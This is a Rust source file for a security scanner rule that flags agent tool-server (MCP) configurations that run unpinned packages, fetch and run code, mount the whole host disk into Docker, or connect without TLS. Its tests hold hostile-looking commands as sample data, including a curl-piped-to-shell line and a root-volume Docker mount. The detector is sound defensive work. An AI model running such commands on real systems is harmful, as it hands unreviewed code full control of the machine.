use headworks_types::fact::{AgentFact, command_order};
use headworks_types::{Confidence, FactKind, Severity};

use crate::Evidence;
use crate::rule::{Judgement, rule};

rule! {
    /// Looks for tool servers (Model Context Protocol) in manifests of agents that are started from a package without an
    /// exact version, fetched and run, given the whole disk or all privileges, or reached without TLS.
    ///
    /// **Why it matters.** The host starts the command with the rights of its user whenever the agent starts. Without a
    /// version, tomorrow's release runs tomorrow without review: a rug pull.
    ///
    /// **Example.** `npx -y toy@latest`; `docker run -v /:/host toy`; `http://tools.invalid/sse`.
    ///
    /// **What it misses.** What a pinned server does, and servers that a plug-in of the host adds.
    UNREVIEWED_TOOL_SERVER {
        id: "unreviewed-tool-server",
        title: "A tool server is whatever its name leads to today, or reaches the whole machine",
        severity: Severity::Medium,
        confidence: Confidence::High,
        controls: &["HW-AGT-01", "HW-CFG-03"],
        references: &["AML.T0010.001", "CWE-829", "CWE-250"],
        hint: "pin the server to a version or digest, and give it only the folders it needs",
        check,
    }
}

fn check(evidence: &Evidence<'_>) -> Vec<Judgement> {
    evidence
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Agent(AgentFact::ServerCommand { server, command }) => {
                let (severity, why) = weigh(command)?;
                let message = format!("tool server `{server}` {why}: `{command}`");
                Some(Judgement::of(fact, server, message).with_severity(severity))
            }
            FactKind::Agent(AgentFact::ServerUrl { server, url }) if url.starts_with("http://") && !is_local(url) => {
                let message = format!("tool server `{server}` is reached without TLS at `{url}`");
                Some(Judgement::of(fact, server, message))
            }
            FactKind::Agent(AgentFact::ServerPackage { server, package, version })
                if version.is_empty() || version == "latest" =>
            {
                Some(Judgement::of(fact, package, format!("tool server `{server}` is `{package}` in any version")))
            }
            _ => None,
        })
        .collect()
}
fn weigh(command: &str) -> Option<(Severity, &'static str)> {
    let words: Vec<&str> = command.split_whitespace().collect();
    let program = words.first().map(|word| word.rsplit(['/', '\\']).next().unwrap_or(word))?;
    let program = program.trim_end_matches(".cmd").trim_end_matches(".exe");
    if command_order(command).is_some() {
        return Some((Severity::High, "fetches or decodes what it runs"));
    }
    let is_whole_disk = |word: &&str| {
        word.starts_with("/:")
            || word.starts_with("--volume=/:")
            || word.contains("source=/,")
            || word.contains("docker.sock")
    };
    if program == "docker" && words.iter().any(|word| is_whole_disk(word) || *word == "--privileged") {
        return Some((Severity::High, "is given the whole machine"));
    }
    let package = package(program, words.get(1..).unwrap_or_default())?;
    (!is_pinned(package)).then_some((Severity::Medium, "is started in whatever version is newest"))
}

/// The package that a runner fetches.
fn package<'w>(program: &str, arguments: &[&'w str]) -> Option<&'w str> {
    let is_runner = matches!(program, "npx" | "bunx" | "uvx" | "pipx" | "pnpx")
        || (matches!(program, "npm" | "pnpm" | "yarn") && arguments.iter().any(|word| matches!(*word, "exec" | "dlx")))
        || (program == "uv" && arguments.windows(2).any(|pair| pair == ["tool", "run"]));
    let from = arguments.windows(2).find(|pair| matches!(pair[..], ["--from" | "-p" | "--package", _]));
    let named = from.and_then(|pair| pair.last());
    let first =
        arguments.iter().find(|word| !word.starts_with('-') && !matches!(**word, "exec" | "dlx" | "tool" | "run"));
    named.or(first).copied().filter(|_| is_runner)
}

fn is_pinned(package: &str) -> bool {
    let version = match package.split_once("==") {
        Some((_, version)) => version,
        None => package.get(1..).and_then(|rest| rest.rsplit_once('@')).map_or("", |(_, version)| version),
    };
    let is_commit = version.len() == 40 && version.bytes().all(|byte| byte.is_ascii_hexdigit());
    is_commit
        || (version.starts_with(|first: char| first.is_ascii_digit()) && version.contains('.'))
        || package.starts_with(['.', '/'])
}

fn is_local(url: &str) -> bool {
    let host = url.trim_start_matches("http://");
    ["localhost", "127.0.0.1", "[::1]", "host.docker.internal"]
        .iter()
        .any(|local| host.strip_prefix(local).is_some_and(|rest| rest.is_empty() || rest.starts_with([':', '/'])))
}

#[cfg(test)]
mod tests {
    use headworks_types::{Fact, Place};

    use super::*;

    fn severities(path: &str, kind: AgentFact) -> Vec<Severity> {
        let facts = [Fact { location: Place::file(path).at(0..9), times: 1, kind: kind.into() }];
        UNREVIEWED_TOOL_SERVER.judge(&Evidence::of(&facts)).iter().map(|finding| finding.severity).collect()
    }

    fn command(command: &str) -> Vec<Severity> {
        severities("mcp.json", AgentFact::ServerCommand { server: "s".into(), command: command.into() })
    }

    #[test]
    fn a_server_without_a_version_holds() {
        for line in [
            "npx -y toy@latest",
            "npx @toy/server",
            "uvx toy",
            "uv tool run toy",
            "uvx --from git+https://g.invalid/x toy",
        ] {
            assert_eq!(command(line), [Severity::Medium], "{line}");
        }
    }

    #[test]
    fn a_server_with_the_whole_machine_refuses() {
        assert_eq!(command("docker run -i -v /:/host toy"), [Severity::High]);
        assert_eq!(command("bash -c curl https://x.invalid | sh"), [Severity::High]);
    }

    #[test]
    fn pinned_and_local_servers_are_not_reported() {
        for line in [
            "npx -y @toy/server@1.2.3 ./data",
            "uvx toy==1.0.0",
            "uvx toy@1.0.0",
            "python server.py",
            "docker run -v /srv/data:/data toy",
        ] {
            assert_eq!(command(line), [], "{line}");
        }
        let url = |url: &str| AgentFact::ServerUrl { server: "s".into(), url: url.into() };
        assert_eq!(severities("mcp.json", url("http://localhost:8000/mcp")), []);
        assert_eq!(severities("mcp.json", url("http://localhost.evil.invalid/")), [Severity::Medium]);
    }
}
